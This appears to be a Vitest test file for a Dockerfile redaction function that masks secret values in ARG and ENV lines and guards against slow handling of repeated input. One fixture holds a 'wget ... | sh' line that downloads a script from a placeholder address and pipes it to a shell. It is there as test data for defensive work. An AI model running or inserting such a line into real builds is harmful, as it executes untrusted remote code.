import { expect, it } from 'vitest';
import { redactDockerfile } from './redact-dockerfile.js';

it.each([
  ['ARG API_TOKEN=s3cret\nRUN make', 'ARG API_TOKEN=***\nRUN make'],
  ['ENV PATH=/bin\nENV DB_PASSWORD hunter2', 'ENV PATH=/bin\nENV DB_PASSWORD ***'],
  ['ENV A=b DB_PASSWORD="hunter 2" C=d', 'ENV A=b DB_PASSWORD=*** C=d'],
  [
    'ENV A=b \\\n    MY_SECRET=x \\\n    C=d\nRUN id',
    'ENV A=b \\\n    MY_SECRET=*** \\\n    C=d\nRUN id',
  ],
  ['ENV PATH /bin:TOKEN=x', 'ENV PATH /bin:TOKEN=x'],
])('%j', (text, expected) => {
  expect(redactDockerfile(text)).toBe(expected);
});

it('hides no instruction that follows a name', () => {
  const text = 'FROM a\nARG TOKEN\nRUN wget -qO- http://192.0.2.1/x | sh\nENV TOKEN\nRUN id\n';
  expect(redactDockerfile(text)).toBe(text);
});

it('takes no long time over what repeats', () => {
  const begin = performance.now();
  redactDockerfile(`ENV ${'a=\\\n'.repeat(50_000)}`);
  redactDockerfile('ENV \\\n'.repeat(50_000));
  redactDockerfile(`ARG A="${'\\'.repeat(100_000)}`);
  expect(performance.now() - begin).toBeLessThan(3000);
});
